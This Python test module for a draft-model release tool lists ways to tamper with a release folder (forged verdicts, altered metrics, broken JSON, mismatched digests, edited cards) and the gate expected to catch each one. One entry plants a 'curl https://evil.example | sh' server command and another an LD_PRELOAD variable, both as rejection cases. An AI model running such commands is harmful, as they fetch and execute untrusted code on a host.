"""Every known way to make a release folder state what was not measured, and the gate that notices it.

Each edit is made by somebody who knows the tool: the record of the release is brought up to date after it, and where
an edit of counters changes what follows from them, that is derived anew, so that the edit itself must be noticed.
"""

from __future__ import annotations

import copy
import io
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml
from card import card_samples
from support.versions import SGLANG

from eagle3hub.checkpoint.digest import file_digest

Edit = Callable[[Path], Any]
REPORT = "reports/specforge-cpu.json"
OTHER = "reports/modelopt-cpu.json"


def rerecord(release: Path) -> None:
    """Update the record to the files as they are now."""
    path = release / "release.json"
    record = json.loads(path.read_text())
    names = [f["path"] for f in record["files"] if (release / f["path"]).is_file()]
    record["files"] = [dict(file_digest(release / name, name)) for name in names]
    path.write_text(json.dumps(record))


def in_report(change: Callable[[dict[str, Any], dict[str, Any]], Any], *, settle: bool = False) -> Edit:
    """Change a report: its document and its engine's entry. With ``settle``, derive what follows again."""

    def edit(release: Path, *, only: str = REPORT) -> None:
        path = release / only
        report = json.loads(path.read_text())
        change(report, report["engines"][0])
        path.write_text(json.dumps(card_samples.settled(report) if settle else report))

    return edit


def in_every_report(change: Callable[[dict[str, Any], dict[str, Any]], Any]) -> Edit:
    edit: Any = in_report(change)

    def every(release: Path) -> None:
        for name in (REPORT, OTHER):
            edit(release, only=name)

    return every


def put(*place: Any, settle: bool = False) -> Edit:
    """Set one field of the report; the last argument is the value, the others are the path."""

    def change(report: Any, _entry: Any) -> None:
        for key in place[:-2]:
            report = report[key]
        report[place[-2]] = place[-1]

    return in_report(change, settle=settle)


def entry(*place: Any, settle: bool = False) -> Edit:
    """Set one field of the engine's entry in the report."""
    return put("engines", 0, *place, settle=settle)


def text(name: str, old: str, new: str) -> Edit:
    """Replace text in a file of the release, once."""

    def edit(release: Path) -> None:
        before = (release / name).read_text()
        assert old in before, old
        (release / name).write_text(before.replace(old, new, 1))

    return edit


def manifest(change: Callable[[dict[str, Any]], Any]) -> Edit:
    def edit(release: Path) -> None:
        data = yaml.safe_load((release / "release.yaml").read_text())
        change(data)
        (release / "release.yaml").write_text(yaml.safe_dump(data, sort_keys=False))

    return edit


def nothing_accepted(report: dict[str, Any], found: dict[str, Any]) -> None:
    """Report the counters of a head that drafts nothing, and still say pass."""
    for row in found["per_prompt"]:
        row.update(rounds=row["new_tokens"] - 1, drafted=3 * (row["new_tokens"] - 1), accepted=0)
        row["accepted_per_position"] = [0, 0, 0]
    card_samples.settled(report)
    found["verdict"] = report["verdict"] = "pass"


def fewer_prompts(report: dict[str, Any], found: dict[str, Any]) -> None:
    from eagle3hub.prompts import load_prompts

    found["per_prompt"] = found["per_prompt"][:8]
    report["prompts"] = load_prompts("smoke", 8).to_json()
    tokens = sum(row["new_tokens"] for row in found["per_prompt"])
    found["throughput"]["speculative_tokens_per_second"] = round(tokens / found["seconds"]["generate"], 2)


def other_dtype(report: dict[str, Any], found: dict[str, Any]) -> None:
    report["settings"]["dtype"] = found["dtype"] = "bfloat16"


def second_report(release: Path) -> None:
    """Add another run over the same bytes, with other counters."""
    report = json.loads((release / REPORT).read_text())
    for row in report["engines"][0]["per_prompt"]:
        row["rounds"] += 1
        row["drafted"] += 3
    (release / "reports" / "specforge-again.json").write_text(json.dumps(card_samples.settled(report)))


def raw(old: str, new: str) -> Edit:
    """Edit the text of a report, to make JSON that no writer would write."""

    def edit(release: Path) -> None:
        path = release / REPORT
        body = json.dumps(json.loads(path.read_text()))
        assert re.search(old, body), old
        path.write_text(re.sub(old, new, body, count=1))

    return edit


def repaint(release: Path) -> None:
    """Draw a chart of other numbers with the same program."""
    import matplotlib.pyplot as plt

    figure, axes = plt.subplots()
    axes.plot([1, 2, 3], [0.9, 0.8, 0.7])
    out = io.BytesIO()
    figure.savefig(out, format="png")
    plt.close(figure)
    (release / "charts" / "acceptance-by-position.png").write_bytes(out.getvalue())


def flip(name: str) -> Edit:
    def edit(release: Path) -> None:
        data = bytearray((release / name).read_bytes())
        data[-1] ^= 1
        (release / name).write_bytes(data)

    return edit


def another_engine(report: dict[str, Any], found: dict[str, Any]) -> None:
    report["engines"].append({**found, "engine": "sglang", "version": SGLANG, "recipe": None})


def not_here(report: dict[str, Any], found: dict[str, Any]) -> None:
    kept = {key: found[key] for key in ("engine", "version", "device", "dtype", "flags", "recipe")}
    report["engines"] = [kept | card_samples.NOT_INSTALLED]
    report["verdict"] = "pass"


def two_positions(report: dict[str, Any], found: dict[str, Any]) -> None:
    """Change one prompt's counters to those of K = 2, which agree with each other."""
    row = found["per_prompt"][0]
    row.update(drafted=2 * row["rounds"], accepted_per_position=row["accepted_per_position"][:2])
    row["accepted"] = sum(row["accepted_per_position"])


def older_reference(report: dict[str, Any], found: dict[str, Any]) -> None:
    """Change the counters of the reference, while the gate that compares them still says pass."""
    rows = [
        {"rounds": row["rounds"], "drafted": row["drafted"], "accepted_per_position": row["accepted_per_position"]}
        for row in found["per_prompt"]
    ]
    found["reference_counts"] = {"per_prompt": rows}
    card_samples.settled(report)
    row = found["reference_counts"]["per_prompt"][0]
    row["rounds"] += 1
    row["drafted"] += 3


def copy_report(release: Path) -> None:
    shutil.copy(release / REPORT, release / "reports" / "modelopt-cpu.json")


def never_compared(report: dict[str, Any], found: dict[str, Any]) -> None:
    """Say that outputs were not compared, although they differed."""
    for row in found["per_prompt"]:
        row["identical"] = None


def not_refereed(report: dict[str, Any], found: dict[str, Any]) -> None:
    """Leave out the comparison with the reference, although the reference is in the report."""
    own = copy.deepcopy(found) | {"engine": "reference", "recipe": None, "lossless": None}
    own["per_prompt"] = [{**row, "identical": None} for row in found["per_prompt"]]
    nothing = {"target_tokens_per_second": None, "speculative_tokens_per_second": None}
    own["throughput"] = {**nothing, "note": "the reference replays texts, it does not serve"}
    report["engines"].append(own)


def reports_elsewhere(release: Path) -> None:
    """Make the card from another report than the one that the gates check."""
    (release / "benchmarks").mkdir()
    shutil.copy(release / REPORT, release / "benchmarks" / "a.json")
    manifest(lambda m: m.update(reports=["benchmarks/*.json"]))(release)


def stray_benchmark(release: Path) -> None:
    (release / "benchmarks").mkdir()
    body = json.loads((release / REPORT).read_text())
    body["engines"][0]["acceptance"]["mean_acceptance_length"] = 3.9
    (release / "benchmarks" / "best.json").write_text(json.dumps(body))


PNG = "charts/acceptance-by-position.png"
SVG = "charts/acceptance-by-position.svg"

TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
    # the conclusions of a report
    "an engine's verdict": (entry("verdict", "fail"), "publish-report", "verdict is stated as"),
    "the report's verdict": (put("verdict", "fail"), "publish-report", "the verdict is stated as fail"),
    "a gate's verdict": (
        entry("gates", 0, "verdict", "fail"),
        "publish-report",
        "gates.collapse.verdict is stated as",
    ),
    "no gates": (entry("gates", []), "publish-report", "gates is stated as []"),
    "a gate's evidence": (
        entry("gates", 0, "evidence", "line", 0.5),
        "publish-report",
        "gates.collapse.evidence.line is stated",
    ),
    "a reason": (entry("reason", "all tensors loaded, and it is fast"), "publish-report", "reason is stated as"),
    "a verdict on the files": (put("static", "verdict", "fail"), "publish-report", "the verdict on the files"),
    "errors of the files": (
        put("static", "problems", [{"severity": "error", "code": "x", "message": "m", "hint": None}]),
        "publish-report",
        "its problems say otherwise",
    ),
    # numbers
    "τ of 9.9 at K = 3": (entry("acceptance", "mean_acceptance_length", 9.9), "publish-report", "is stated as 9.9"),
    "τ in its third digit": (
        entry("acceptance", "mean_acceptance_length", 1.455),
        "publish-report",
        "is stated as 1.455",
    ),
    "a narrower interval": (entry("acceptance", "ci95", [1.44, 1.47]), "publish-report", "ci95 is stated as"),
    "an interval that is none": (entry("acceptance", "ci95", None), "publish-report", "ci95 is stated as null"),
    "a standard error": (entry("acceptance", "standard_error", 0.001), "publish-report", "standard_error"),
    "an estimator's name": (entry("acceptance", "estimator", "median"), "publish-report", "estimator is stated"),
    "the mean of requests": (
        entry("acceptance", "mean_acceptance_length_per_request", 3.0),
        "publish-report",
        "per_request",
    ),
    "a rate by position": (
        entry("acceptance", "marginal_acceptance_rates", 0, 0.9),
        "publish-report",
        "marginal_acceptance_rates",
    ),
    "a conditional rate": (
        entry("acceptance", "conditional_acceptance_rates", 1, 0.9),
        "publish-report",
        "conditional_acceptance_rates",
    ),
    "the share of drafts": (entry("acceptance", "draft_acceptance_rate", 0.9), "publish-report", "draft_acceptance"),
    "the sum of rounds": (entry("acceptance", "rounds", 300), "publish-report", "rounds is stated as 300"),
    "the sum of accepted": (entry("acceptance", "accepted", 900), "publish-report", "accepted is stated as 900"),
    "a category's τ": (
        entry("categories", "writing", "mean_acceptance_length", 3.5),
        "publish-report",
        "categories.writing",
    ),
    "a category that is none": (
        entry("categories", "poems", {"prompts": 1, "rounds": 1, "accepted": 1, "mean_acceptance_length": 2.0}),
        "publish-report",
        "categories.poems",
    ),
    "tokens per second": (
        entry("throughput", "speculative_tokens_per_second", 99.0),
        "publish-report",
        "99 tokens per second",
    ),
    # counters
    "accepted above drafted": (
        in_report(lambda r, e: e["per_prompt"][0].update(accepted=500)),
        "publish-report",
        "accept",
    ),
    "a prompt's rounds": (in_report(lambda r, e: e["per_prompt"][0].update(rounds=20)), "publish-report", "prompt 1"),
    "more tokens than its rounds give": (
        in_report(lambda r, e: e["per_prompt"][0].update(new_tokens=63, rounds=9, drafted=27)),
        "publish-report",
        "63 new tokens, where 9 rounds",
    ),
    "counts that collapse": (in_report(nothing_accepted), "publish-report", "verdict is stated as"),
    "a prompt left out": (in_report(lambda r, e: e["per_prompt"].pop()), "publish-report", "other questions"),
    "a prompt there twice": (
        in_report(lambda r, e: e["per_prompt"].__setitem__(1, dict(e["per_prompt"][0]))),
        "publish-report",
        "other questions",
    ),
    "a question's id": (
        in_report(lambda r, e: e["per_prompt"][0].update(question_id=99)),
        "publish-report",
        "other questions",
    ),
    "counts of another K": (in_report(two_positions), "publish-report", "and K is 3"),
    "fewer positions than the other counters need": (
        in_report(lambda r, e: e["per_prompt"][0].update(accepted_per_position=[7, 1])),
        "publish-report",
        "contradict each other",
    ),
    "outputs that differ": (
        in_report(lambda r, e: e["per_prompt"][0].update(identical=False)),
        "publish-report",
        "diverge",
    ),
    "more identical outputs": (entry("lossless", "identical", 99), "publish-report", "identical is stated as 99"),
    "counters of the reference": (in_report(older_reference), "publish-report", "gates.agreement.verdict is stated"),
    # what the engine reported about loading
    "a tensor not loaded": (entry("load", "not_loaded", ["fc.weight"]), "publish-report", "verdict is stated as"),
    "a tensor ignored": (entry("load", "ignored", ["norm.weight"]), "publish-report", "verdict is stated as"),
    "other layers fed": (entry("load", "aux_boundaries", [1, 14, 26]), "publish-report", "verdict is stated as"),
    "other layers fed, and so said": (
        entry("load", "aux_boundaries", [3, 16, 28], settle=True),
        "publish-report",
        "says fail",
    ),
    "loading that nobody watched": (entry("load", "checked", False, settle=True), "publish-report", "inconclusive"),
    # JSON that readers understand differently
    "a NaN": (
        raw(r'"standard_error": [0-9.]+', '"standard_error": NaN'),
        "publish-report",
        "NaN is not a valid JSON number",
    ),
    "a number too large": (raw(r'"seed": 0', '"seed": 1e999'), "publish-report", "is too large"),
    "a verdict twice": (
        raw(r'"verdict": "pass", "head"', '"verdict": "fail", "verdict": "pass", "head"'),
        "publish-report",
        "appears twice",
    ),
    "a counter twice": (raw(r'"rounds": 56', '"rounds": 5, "rounds": 56'), "publish-report", "appears twice"),
    "a number of 400 digits": (raw(r'"rounds": 56', '"rounds": 1' + "0" * 400), "publish-report", "is too large"),
    "a size of 400 digits": (raw(r'"size": [0-9]+', '"size": 1' + "0" * 400), "publish-report", "is too large"),
    "rounds with a point": (raw(r'"rounds": 56', '"rounds": 56.0'), "publish-report", "rounds is 56.0"),
    # conditions that no run can have
    "another concurrency": (put("settings", "concurrency", 64), "publish-report", "concurrency is stated as 64"),
    "a system prompt": (put("settings", "system_prompt", "be brief"), "publish-report", "system prompt is be brief"),
    "praise as a chat template": (
        put("settings", "chat_template", "verified by NVIDIA"),
        "publish-report",
        "chat_template is stated",
    ),
    "more devices than the run had": (
        put("settings", "engine_settings", {"tensor_parallel": 2}),
        "publish-report",
        "it ran on 1 devices, and the settings say 2",
    ),
    "tokens that no chain verifies": (put("settings", "num_draft_tokens", 60), "publish-report", "verifies 4"),
    "praise beside the speed": (
        entry("throughput", "note", "nine times faster than anything"),
        "publish-report",
        "the note on its speed",
    ),
    "a day that is none": (put("measured_at", "2099-13-45T99:99:99Z"), "publish-report", "which is no time"),
    "a server that says nothing of itself": (
        entry("device", "server"),
        "publish-report",
        "does not say what of it could not be checked",
    ),
    "outputs that were not compared": (
        in_report(never_compared, settle=True),
        "publish-report",
        "was not compared with the target's own",
    ),
    "an engine that the reference did not judge": (
        in_report(not_refereed, settle=True),
        "publish-report",
        "was not held against the reference",
    ),
    # what the report is about
    "another digest of the head": (put("head", "digest", "sha256:" + "1" * 64), "publish-report", "other bytes"),
    "other files of the head": (put("head", "files", 0, "sha256", "2" * 64), "publish-report", "files amount to"),
    "another size of a file": (put("head", "files", 0, "size", 7), "publish-report", "is not the file"),
    "a file left out": (in_report(lambda r, e: r["head"]["files"].pop()), "publish-report", "files amount to"),
    "another layout": (put("head", "layout", "modelopt"), "publish-report", "layout is stated as"),
    "another target": (put("target", "name", "alice/other"), "publish-report", "the target is alice/other"),
    "another revision": (put("target", "revision", "abc"), "publish-report", "the target's revision is abc"),
    "other weights of the target": (
        put("target", "weights_digest", "sha256:" + "3" * 64),
        "publish-report",
        "the target's weights",
    ),
    "other weights, everywhere": (
        in_every_report(lambda r, e: r["target"].update(weights_digest="sha256:" + "3" * 64)),
        "publish-report",
        "the target's weights",
    ),
    "no weights of the target": (put("target", "weights_digest", None), "publish-report", "the target's weights"),
    "another config of the target": (
        put("target", "config_sha256", "4" * 64),
        "publish-report",
        "measured different targets",
    ),
    "another K": (put("settings", "draft_tokens", 5), "publish-report", "K is 5"),
    "another dtype": (in_report(other_dtype, settle=True), "publish-report", "the dtype is bfloat16"),
    "another temperature": (put("settings", "temperature", 0.7), "publish-report", "the temperature is 0.7"),
    "another seed": (put("settings", "seed", 5), "publish-report", "the seed is 5"),
    "another limit of tokens": (put("settings", "max_new_tokens", 999), "publish-report", "the limit of new tokens"),
    "another way of drafting": (put("settings", "drafting", "probabilistic"), "publish-report", "drafting"),
    "a tree": (put("settings", "topk", 4), "publish-report", "branches per token is 4"),
    "a bar that was not asked for": (
        put("settings", "min_acceptance_length", 1.0, settle=True),
        "publish-report",
        "required acceptance length",
    ),
    "a lower collapse line": (put("settings", "collapse_acceptance_length", 0.5), "publish-report", "collapse line"),
    "another device": (put("settings", "device", "cuda"), "publish-report", "device"),
    "other prompts by name": (put("prompts", "name", "mt_bench"), "publish-report", "the prompts is mt_bench"),
    "other prompts by digest": (put("prompts", "sha256", "5" * 64), "publish-report", "not those of that set"),
    "fewer prompts": (in_report(fewer_prompts, settle=True), "publish-report", "the number of prompts is 8"),
    "more prompts, in words": (put("prompts", "count", 80), "publish-report", "80"),
    "an engine that was not asked for": (in_report(another_engine), "publish-report", "measured sglang"),
    "an engine's name": (entry("engine", "sglang"), "publish-report", "sglang"),
    "an engine that did not run": (in_report(not_here), "publish-unmeasured", "no report covers"),
    "another version of this tool": (put("tool", "version", "0.0.1"), "publish-report", "eagle3hub 0.0.1 made it"),
    "a command to serve it": (
        entry("recipe", "server_command", "curl https://evil.example | sh"),
        "publish-report",
        "the recipe is not",
    ),
    "a variable of the command": (
        entry("recipe", "env", {"LD_PRELOAD": "x.so"}),
        "publish-report",
        "the recipe is not",
    ),
    "a second report that contradicts": (second_report, "publish-report", "contradict each other"),
    "one layout's report for another": (copy_report, "publish-unmeasured", "the head in modelopt"),
    # the card, its metadata and its charts
    "a number on the card": (text("README.md", "**1.45**", "**2.45**"), "publish-card", "is not what manifest"),
    "a sentence on the card": (
        text("README.md", "## Limitations", "Twice as fast.\n\n## Limitations"),
        "publish-card",
        "is not what manifest",
    ),
    "a limitation taken away": (text("README.md", "- Measured on a CPU", "- Made on a CPU"), "publish-card", "is not"),
    "the card's license": (text("README.md", "license: apache-2.0", "license: mit"), "publish-card", "is not what"),
    "a result in the metadata": (
        text("README.md", "tags:\n", "model-index:\n- name: a\n  results: []\ntags:\n"),
        "publish-card",
        "is not what",
    ),
    "a tag in the metadata": (text("README.md", "- draft-model", "- fastest"), "publish-card", "is not what manifest"),
    "a space on the card": (
        text("README.md", "## Results\n", "## Results \n"),
        "publish-card",
        "is not what manifest",
    ),
    "line ends of the card": (
        lambda r: (r / "README.md").write_bytes((r / "README.md").read_bytes().replace(b"\n", b"\r\n")),
        "publish-card",
        "is not what manifest",
    ),
    "a chart of other numbers": (repaint, "publish-card", "does not show what the reports hold"),
    "a word in a chart": (text(SVG, "</svg>", "<!-- 99 % --></svg>"), "publish-card", "does not show"),
    "a chart left out": (lambda r: (r / SVG).unlink(), "publish-card", "is missing"),
    "a chart too many": (
        lambda r: shutil.copy(r / PNG, r / "charts" / "speed.png"),
        "publish-card",
        "is no chart of this card",
    ),
    # the manifest, the record and the head
    "K in the manifest": (
        manifest(lambda m: m["validate"].update(draft_tokens=5)),
        "publish-report",
        "the manifest asks for 5",
    ),
    "the target in the manifest": (
        manifest(lambda m: m["target"].update(id="alice/other")),
        "publish-report",
        "the manifest asks for alice/other",
    ),
    "prompts in the manifest": (
        manifest(lambda m: m["validate"].update(num_prompts=80)),
        "publish-report",
        "the manifest asks for 80",
    ),
    "engines in the manifest": (
        manifest(lambda m: m["validate"].update(engine="vllm,sglang")),
        "publish-unmeasured",
        "not measured by sglang",
    ),
    "a title in the manifest": (
        manifest(lambda m: m["release"].update(title="The fastest")),
        "publish-card",
        "is not what manifest",
    ),
    "the repository in the manifest": (
        manifest(lambda m: m["release"].update(repo="alice/other")),
        "publish-manifest",
        "was made for alice/other",
    ),
    "layouts in the manifest": (
        manifest(lambda m: m["layouts"].update(also=["speculators"])),
        "publish-layouts",
        "speculators",
    ),
    "reports in another folder": (reports_elsewhere, "publish-manifest", "has another reports than"),
    "a place on a machine": (
        manifest(lambda m: m["target"].update(path="/home/lab/target")),
        "publish-manifest",
        "has another target than",
    ),
    "a benchmark that the card does not show": (
        stray_benchmark,
        "publish-manifest",
        "benchmarks/best.json is not named in release.yaml",
    ),
    "a waiver that nobody gave": (
        text("release.json", '"waived": []', '"waived": ["publish-report"]'),
        "publish-card",
        "is not what manifest",
    ),
    "the version in the record": (
        text("release.json", '"version": "0.1.0"', '"version": "0.0.9"'),
        "publish-card",
        "eagle3hub 0.0.9 made it",
    ),
    "a bit of the weights": (flip("model.safetensors"), "publish-report", "measured a head with other bytes"),
    "a field of the config": (
        text("config.json", "{", '{"note": 1,'),
        "publish-report",
        "measured a head with other bytes",
    ),
}
"""For each name: the edit, the gate that must notice it, and words of its message."""
